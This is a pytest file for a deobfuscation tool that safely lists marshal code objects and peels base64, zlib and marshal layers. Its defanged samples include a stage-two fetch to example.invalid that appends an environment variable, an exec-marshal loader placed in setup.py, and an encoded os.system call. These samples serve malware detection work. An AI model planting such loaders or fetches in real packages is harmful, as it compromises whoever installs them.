"""The safe marshal reader: names and constants of code objects, read without marshal.loads."""

from __future__ import annotations

import base64
import marshal
import zlib

import pytest
from antivenom.peel import peel_file, read_code
from antivenom.peel.marshal_reader import MarshalError

SOURCE = '''
import urllib.request, os
URL = "https://example.invalid/stage2"
def fetch(extra):
    return urllib.request.urlopen(URL + os.environ.get("HOME", "")).read()
class Loader:
    def run(self):
        return b"bytes-constant"
'''


def _dumped() -> bytes:
    # marshal.dumps of our own harmless source: how the corpus tool builds its samples
    return marshal.dumps(compile(SOURCE, "<corpus>", "exec"))


def test_reader_lists_names_constants_and_code_names() -> None:
    listing = read_code(_dumped())
    assert "https://example.invalid/stage2" in listing.constants
    assert b"bytes-constant" in listing.constants
    assert {"urllib", "urlopen", "environ"} <= set(listing.names)
    assert {"<module>", "fetch", "run", "Loader"} <= set(listing.code_names)


def test_rendered_listing_parses_and_holds_the_url() -> None:
    import ast

    text = read_code(_dumped()).render()
    ast.parse(text)
    assert "https://example.invalid/stage2" in text


@pytest.mark.parametrize("data", [
    b"", b"c", b"\xe3" + b"\xff" * 40, b"\xe3\x00\x00\x00\x00" * 3,
    b"N", b"\xe3" + b"(" + b"\xff\xff\xff\x7f",  # a tuple claiming 2 billion items
])
def test_garbage_is_refused_not_crashed_on(data) -> None:
    with pytest.raises(MarshalError):
        read_code(data)


def test_truncated_stream_is_refused() -> None:
    data = _dumped()
    for cut in (5, len(data) // 2, len(data) - 1):
        with pytest.raises(MarshalError):
            read_code(data[:cut])


def test_deep_nesting_is_refused() -> None:
    data = b"\xe3" + b"\x00" * 20 + b")\x01" * 500 + b"N"
    with pytest.raises(MarshalError):
        read_code(data)


def test_peel_lists_marshal_under_zlib_and_base64() -> None:
    blob = base64.b64encode(zlib.compress(_dumped())).decode()
    source = f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode({blob!r}))))\n"
    result = peel_file("setup.py", source.encode())
    listing = [d for d in result.derived if d.kind == "marshal-listing"]
    assert listing and listing[0].chain == ["base64", "zlib", "marshal"]
    assert b"https://example.invalid/stage2" in listing[0].data


def test_encoded_constant_inside_marshal_is_peeled_further() -> None:
    inner = b"import os\nos.system('echo defanged')\n"
    code = compile(f"import base64\nexec(base64.b64decode({base64.b64encode(inner).decode()!r}))", "<c>", "exec")
    blob = base64.b64encode(marshal.dumps(code)).decode()
    result = peel_file("a.py", f"import marshal, base64\nexec(marshal.loads(base64.b64decode({blob!r})))\n".encode())
    assert any(d.data == inner and d.chain == ["base64", "marshal-const", "base64"] for d in result.derived)


def test_sourceless_pyc_is_listed() -> None:
    import importlib.util

    pyc = importlib.util.MAGIC_NUMBER + b"\x00" * 12 + _dumped()
    result = peel_file("pkg/core.pyc", pyc)
    assert result.derived[0].kind == "marshal-listing"
    assert b"https://example.invalid/stage2" in result.derived[0].data
